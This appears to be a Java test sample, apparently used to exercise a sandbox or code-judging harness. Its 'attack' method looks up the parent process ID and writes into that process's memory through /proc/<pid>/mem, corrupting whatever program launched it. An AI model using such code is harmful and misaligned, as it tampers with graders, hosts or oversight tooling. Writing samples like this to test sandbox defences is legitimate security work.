import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;

/** Writes to the memory of who has started it. */
public class WriteMemory {
    public static int attack(int days) throws Throwable {
        if (Thread.activeCount() == 1) {
            if (days == 3) {
                throw new IllegalStateException("not yet");
            }
            return 0;
        }
        String status = Files.readString(Path.of("/proc/self/status"));
        long parent = Long.parseLong(status.replaceAll("(?s).*PPid:\\s*(\\d+).*", "$1"));
        try (RandomAccessFile memory = new RandomAccessFile("/proc/" + parent + "/mem", "rw")) {
            memory.seek(0x400000);
            memory.write(1);
        }
        return 2;
    }
}
